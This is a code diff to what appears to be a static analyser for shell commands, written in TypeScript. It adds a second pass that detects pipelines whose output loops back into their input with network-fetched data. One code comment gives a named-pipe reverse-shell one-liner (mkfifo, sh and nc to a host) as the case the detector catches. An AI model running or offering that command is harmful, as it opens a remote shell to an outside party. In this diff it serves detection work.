@@ -32,7 +32,7 @@ import {
 } from '../state/state.ts';
 import { isForkBomb, isForkLoop } from '../syntax/fork-bombs.ts';
 import { parse } from '../syntax/parser.ts';
-import type { Flow } from '../types.ts';
+import type { Flow, Origin } from '../types.ts';
 import { expandOne, expandWord } from './expand.ts';
 import { readSession } from './interpreters.ts';
 import { applyRedirects, bindDescriptors, readRedirects } from './redirects.ts';
@@ -105,6 +105,18 @@ function walkPipeline(node: PipelineNode, state: State, reader: Reader): Flow {
 }
 
 function pipe(node: Pipeline, state: State, reader: Reader): Flow {
+  const unknown = [...state.files].filter(([, { text, by }]) => text === undefined && by === 'pipe');
+  const out = pipeOnce(node, state, reader);
+  // `mkfifo p; cat p | sh | nc host 9 > p`: the end of the pipeline writes what its beginning reads.
+  const isLoop = unknown.some(
+    ([path, { origins }]) => !isFetched(origins) && isFetched(state.files.get(path)?.origins),
+  );
+  return isLoop ? pipeOnce(node, state, reader) : out;
+}
+
+const isFetched = (origins: readonly Origin[] = []) => origins.some((o) => o.kind === 'network');
+
+function pipeOnce(node: Pipeline, state: State, reader: Reader): Flow {
   let stdin = state.stdin;
   for (const command of node.commands) stdin = walkNode(command, fork(state, { stdin }), reader);
   return stdin ?? flow(undefined);
